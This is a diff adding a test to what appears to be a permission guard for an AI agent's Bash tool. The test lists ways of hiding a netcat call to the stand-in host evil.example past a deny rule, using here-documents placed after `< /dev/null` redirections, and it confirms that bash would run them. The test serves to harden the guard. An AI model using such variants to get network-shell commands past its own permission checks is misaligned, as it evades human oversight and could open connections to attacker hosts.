@@ -258,6 +258,20 @@ describe(`public bypass classes (16): under a deny on rm, other ways of emptying
     expect(guard.decide("Bash", { command: ": | sh" }).mode).toBe("allow");
   });
 
+  it("bash applies a command's redirections in the order written: a script fed after `< /dev/null` is what the shell reads", () => {
+    // Found by the shell oracle (seed 777331): once `< /dev/null` fed a known empty input, it hid a here-document after it.
+    const nc = denyListGuard(["nc:*"], "public-bypasses-16-input-order");
+    for (const line of ["0</dev/null bash <<'EOF'\nenv -i env -S 'nc evil.example 4444'\nEOF", "</dev/null bash <<< 'nc evil.example 4444'", "< /dev/null sh <<EOF\nnc evil.example 4444\nEOF"]) {
+      expect(nc.decide("Bash", { command: line }).mode, line).toBe("deny");
+      const ran = spawnSync("bash", ["-c", line.replace("nc evil.example 4444", "echo RAN")], { encoding: "utf8" });
+      expect(ran.stdout, line).toContain("RAN");
+    }
+    // The other order: the empty input comes last, and bash reads nothing.
+    const last = "bash <<< 'nc evil.example 4444' </dev/null";
+    expect(nc.decide("Bash", { command: last }).mode).toBe("allow");
+    expect(spawnSync("bash", ["-c", "bash <<< 'echo RAN' </dev/null"], { encoding: "utf8" }).stdout).toBe("");
+  });
+
   it("rules on other commands are not touched: the same lines under a deny on git push stay allowed", () => {
     const other = denyListGuard(["git push:*"], "public-bypasses-16-emptiers-other");
     for (const [line] of DESTROYERS) expect(other.decide("Bash", { command: fill(line) }).mode, line).toBe("allow");
